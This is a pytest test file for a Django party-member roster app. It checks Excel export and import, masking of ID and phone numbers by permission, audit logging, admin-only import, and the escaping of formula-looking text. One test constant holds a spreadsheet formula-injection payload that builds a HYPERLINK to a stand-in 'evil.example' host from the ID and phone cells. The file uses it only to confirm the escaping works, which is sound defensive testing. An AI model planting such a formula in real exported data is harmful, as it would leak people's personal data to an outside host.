"""Exporting the roster: the command, masking, scope, and the admin's import and export."""

from __future__ import annotations

import datetime

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from branches import access
from branches.models import AuditBulkEvent
from members import selectors
from members.models import Member
from members.roster_io.exporting import export_members
from members.roster_io.importing import import_members
from tests.factories import MemberFactory, UserFactory

from .import_helpers import person, read_sheet, workbook_bytes


def _export(tmp_path, *args) -> list[list]:
    path = tmp_path / "out.xlsx"
    call_command("export_members", str(path), *args)
    return read_sheet(path)


def test_export_has_the_import_headers_and_every_column(tree, tmp_path):
    member = MemberFactory(
        branch=tree.branch_a,
        group=tree.group_a,
        name="赵六",
        phone="13812345678",
        education=Member.Education.UNDERGRADUATE,
        status=Member.Status.FULL,
    )
    header, row = _export(tmp_path)
    assert header == [
        "姓名",
        "性别",
        "民族",
        "出生日期",
        "公民身份号码",
        "学历",
        "手机号码",
        "党组织编码",
        "党小组编码",
        "职业类别",
        "党员状况",
        "党员状态",
        "入党日期",
        "转正日期",
    ]
    assert row == [
        "赵六",
        "男",
        "汉族",
        datetime.datetime(1980, 5, 17),
        member.id_number,
        "大学本科",
        "13812345678",
        "BA",
        "GA",
        "在职",
        "正常",
        "正式党员",
        datetime.datetime(2005, 7, 1),
        datetime.datetime(2006, 7, 1),
    ]


def test_command_without_a_user_exports_full_numbers_of_every_branch(tree, tmp_path, capsys):
    a, c = MemberFactory(branch=tree.branch_a), MemberFactory(branch=tree.branch_c)
    rows = _export(tmp_path)
    assert {r[4] for r in rows[1:]} == {a.id_number, c.id_number}
    assert "已导出2名党员" in capsys.readouterr().out


def test_command_as_a_user_without_view_sensitive_masks_numbers(tree, reviewer, tmp_path):
    member = MemberFactory(branch=tree.branch_a, phone="13812345678")
    MemberFactory(branch=tree.branch_c)
    rows = _export(tmp_path, "--user", "reviewer")
    assert [(r[4], r[6]) for r in rows[1:]] == [(member.id_number_masked, "138****5678")]


def test_command_as_a_user_with_view_sensitive_shows_full_numbers(tree, orgdept, tmp_path):
    member = MemberFactory(branch=tree.branch_b)
    assert _export(tmp_path, "--user", "orgdept")[1][4] == member.id_number


def test_export_without_view_sensitive_has_the_age_not_the_birth_date(tree, reviewer, secretary_a, tmp_path):
    MemberFactory(branch=tree.branch_a, birth_date=datetime.date(1980, 5, 17))
    age = selectors.age_on(datetime.date(1980, 5, 17), timezone.localdate())
    for user in (reviewer, secretary_a):
        path = tmp_path / f"{user.username}.xlsx"
        export_members(path, user=user)
        (row,) = read_sheet(path)[1:]
        assert row[3] == f"{age}岁"
        assert not any(isinstance(v, datetime.datetime) and v.year == 1980 for v in row)
        assert all("1980" not in str(v) for v in row)


def test_export_with_view_sensitive_has_the_birth_date(tree, orgdept, tmp_path):
    MemberFactory(branch=tree.branch_a, birth_date=datetime.date(1980, 5, 17))
    path = tmp_path / "full.xlsx"
    export_members(path, user=orgdept)
    assert read_sheet(path)[1][3] == datetime.datetime(1980, 5, 17)


def test_export_of_a_subtree_mixes_full_and_masked_rows_by_grant(tree, tmp_path):
    user = UserFactory(username="half")
    access.grant(user, access.VIEW, tree.town)
    access.grant(user, access.SENSITIVE, tree.village_b)
    a = MemberFactory(branch=tree.branch_a, name="甲")
    b = MemberFactory(branch=tree.branch_b, name="乙")
    path = tmp_path / "half.xlsx"
    export_members(path, user=user)
    rows = {r[0]: r for r in read_sheet(path)[1:]}
    assert (rows["甲"][4], rows["乙"][4]) == (a.id_number_masked, b.id_number)
    assert isinstance(rows["乙"][3], datetime.datetime) and str(rows["甲"][3]).endswith("岁")
    event = AuditBulkEvent.objects.get(kind=AuditBulkEvent.Kind.EXPORT_MEMBERS)
    assert event.counts == {"导出": 2, "未脱敏": 1}


def test_export_through_the_site_is_audited_with_who_where_and_how_many(login_as, tree, orgdept):
    MemberFactory(branch=tree.branch_b)
    MemberFactory(branch=tree.branch_b)
    response = login_as("orgdept").get(reverse("members:roster_export"), {"branch": "VB"}, REMOTE_ADDR="198.51.100.4")
    assert response.status_code == 200
    event = AuditBulkEvent.objects.get(kind=AuditBulkEvent.Kind.EXPORT_MEMBERS)
    assert (event.actor, event.remote_addr, event.branch) == (orgdept, "198.51.100.4", tree.village_b)
    assert event.counts == {"导出": 2, "未脱敏": 2}


def test_masked_export_is_audited_too(login_as, tree, secretary_a):
    MemberFactory(branch=tree.branch_a)
    login_as("secretary_a").get(reverse("members:roster_export"))
    event = AuditBulkEvent.objects.get(kind=AuditBulkEvent.Kind.EXPORT_MEMBERS)
    assert (event.actor, event.branch, event.counts) == (secretary_a, None, {"导出": 1, "未脱敏": 0})


def test_export_by_command_is_audited(tree, tmp_path):
    MemberFactory(branch=tree.branch_a)
    _export(tmp_path, "--branch", "VA")
    event = AuditBulkEvent.objects.get(kind=AuditBulkEvent.Kind.EXPORT_MEMBERS)
    assert (event.actor, event.branch, event.counts) == (None, tree.village_a, {"导出": 1, "未脱敏": 1})


def test_branch_option_limits_to_the_subtree(tree, tmp_path):
    MemberFactory(branch=tree.branch_a, name="甲")
    MemberFactory(branch=tree.branch_b, name="乙")
    assert [r[0] for r in _export(tmp_path, "--branch", "VB")[1:]] == ["乙"]


def test_branch_outside_the_users_scope_is_refused(tree, secretary_a, tmp_path):
    with pytest.raises(CommandError, match="BC"):
        _export(tmp_path, "--branch", "BC", "--user", "secretary_a")


def test_unknown_branch_or_user_is_refused(tree, tmp_path):
    with pytest.raises(CommandError):
        _export(tmp_path, "--branch", "NOPE")
    with pytest.raises(CommandError):
        _export(tmp_path, "--user", "nobody")


def test_members_who_left_are_not_exported(tree, tmp_path):
    MemberFactory(branch=tree.branch_a, name="在册")
    MemberFactory(
        branch=tree.branch_a, name="离册", is_active=False, left_on=datetime.date(2020, 1, 1), left_reason="died"
    )
    assert [r[0] for r in _export(tmp_path)[1:]] == ["在册"]


def test_masked_export_cannot_be_imported_back_by_mistake(tree, reviewer, orgdept, tmp_path):
    MemberFactory(branch=tree.branch_a)
    path = tmp_path / "masked.xlsx"
    export_members(path, user=reviewer)
    result = import_members(path, user=orgdept)
    assert sorted((e.row, e.column) for e in result.errors) == [(2, "公民身份号码"), (2, "出生日期"), (2, "手机号码")]
    assert not result.written


def test_full_export_by_command_reimported_by_command_changes_nothing(tree, tmp_path, capsys):
    MemberFactory(branch=tree.branch_a, group=tree.group_a)
    MemberFactory(branch=tree.branch_c, status=Member.Status.PROBATIONARY, confirmed_on=None)
    path = tmp_path / "all.xlsx"
    call_command("export_members", str(path))
    before = list(Member.objects.values().order_by("pk"))
    call_command("import_members", str(path))
    assert "新增0人，修改0人，未变2人" in capsys.readouterr().out
    assert list(Member.objects.values().order_by("pk")) == before


# The admin ------------------------------------------------------------------------------------


@pytest.fixture
def admin_client(client, db):
    user = UserFactory(username="admin", is_staff=True, is_superuser=True)
    client.force_login(user)
    return client


def test_admin_list_shows_masked_numbers_only(tree, admin_client):
    member = MemberFactory(branch=tree.branch_a)
    html = admin_client.get(reverse("admin:members_member_changelist")).content.decode()
    assert member.id_number_masked in html
    assert member.id_number not in html and member.id_number_encrypted not in html
    page = admin_client.get(reverse("admin:members_member_change", args=[member.pk])).content.decode()
    assert member.id_number_masked in page
    assert member.id_number not in page and member.id_number_encrypted not in page


def test_admin_search_does_not_take_phone_or_id_numbers(tree, admin_client):
    """The admin's search is a GET: numbers typed there would land in access logs, so it finds none."""
    member = MemberFactory(branch=tree.branch_a, name="查找对象")
    MemberFactory(branch=tree.branch_a, name="别人")
    changelist = reverse("admin:members_member_changelist")
    for term in (member.id_number, member.phone):
        assert list(admin_client.get(changelist, {"q": term}).context["cl"].result_list) == []
    assert list(admin_client.get(changelist, {"q": "查找"}).context["cl"].result_list) == [member]


def test_admin_export_is_audited(tree, admin_client):
    MemberFactory(branch=tree.branch_a)
    response = admin_client.post(
        reverse("admin:members_member_export"), {"format": 0, "resource": 0, **_admin_export_fields()}
    )
    assert response.status_code == 200, response.content[:500]
    event = AuditBulkEvent.objects.get(kind=AuditBulkEvent.Kind.EXPORT_MEMBERS)
    assert event.actor.username == "admin" and event.counts == {"导出": 1, "未脱敏": 1}


def _admin_export_fields() -> dict:
    from members.roster_io.resources import MemberResource

    return {f"memberresource_{name}": "on" for name in MemberResource._meta.export_order}


def test_admin_import_checks_rows_with_the_resource(tree, admin_client):
    data = workbook_bytes([person(), person(职业类别="神仙")]).getvalue()
    response = admin_client.post(
        reverse("admin:members_member_import"),
        {"resource": 0, "format": 0, "import_file": SimpleUploadedFile("roster.xlsx", data)},
    )
    assert response.status_code == 200
    result = response.context["result"]
    assert result.has_validation_errors()
    assert "职业类别“神仙”无法识别" in response.content.decode()
    assert not Member.objects.exists()


def test_admin_import_confirmed_writes_members_with_events(tree, admin_client):
    data = workbook_bytes([person(), person("BB")]).getvalue()
    response = admin_client.post(
        reverse("admin:members_member_import"),
        {"resource": 0, "format": 0, "import_file": SimpleUploadedFile("roster.xlsx", data)},
    )
    confirm = response.context["confirm_form"]
    response = admin_client.post(reverse("admin:members_member_process_import"), confirm.initial)
    assert response.status_code == 302
    assert Member.objects.count() == 2
    assert all(m.events.filter(kind="imported").exists() for m in Member.objects.all())


def test_admin_import_is_for_superusers_only(tree, secretary_a, client):
    """A staff user with every model permission and branch grants: no admin import (partysite/admin_site.py)."""
    from django.contrib.auth.models import Permission

    secretary_a.is_staff = True
    secretary_a.save()
    secretary_a.user_permissions.add(*Permission.objects.filter(codename__in=["change_member", "view_member"]))
    client.force_login(secretary_a)
    data = workbook_bytes([person("BA"), person("BB")]).getvalue()
    response = client.post(
        reverse("admin:members_member_import"),
        {"resource": 0, "format": 0, "import_file": SimpleUploadedFile("roster.xlsx", data)},
    )
    assert response.status_code == 302 and response["Location"].startswith(reverse("admin:login"))
    assert not Member.objects.exists()


# Formula injection (issue 12 item 5): exported text a spreadsheet would evaluate is escaped --------

FORMULA = '=HYPERLINK("http://evil.example/?"&E2&G2,"详情")'


def _cells(source) -> list[list]:
    """Every cell of the first sheet, loaded in full so that a formula keeps its data type "f"."""
    from openpyxl import load_workbook

    return [list(row) for row in load_workbook(source).worksheets[0].iter_rows()]


def test_a_name_that_looks_like_a_formula_is_exported_as_text(tree, orgdept):
    import io

    MemberFactory(branch=tree.branch_a, name=FORMULA)
    out = io.BytesIO()
    export_members(out, user=orgdept)
    out.seek(0)
    header, row = _cells(out)
    assert (row[0].value, row[0].data_type) == ("'" + FORMULA, "s")
    assert not [cell for cell in header + row if cell.data_type == "f"]


def test_the_admins_export_escapes_formula_looking_text(tree):
    from members.roster_io.resources import MemberResource

    MemberFactory(branch=tree.branch_a, name="@SUM(A1:A9)")
    dataset = MemberResource(user=None).export()
    assert dataset.dict[0]["姓名"] == "'@SUM(A1:A9)"


def test_the_templates_hold_no_formula(tree, login_as, tmp_path):
    from members.roster_io.exporting import write_template

    path = tmp_path / "template.xlsx"
    write_template(path)
    response = login_as("secretary_a").get(reverse("members:dues_import_template"))
    for source in (path, io_of(response.content)):
        assert not [cell for row in _cells(source) for cell in row if cell.data_type == "f"]


def io_of(content: bytes):
    import io

    return io.BytesIO(content)
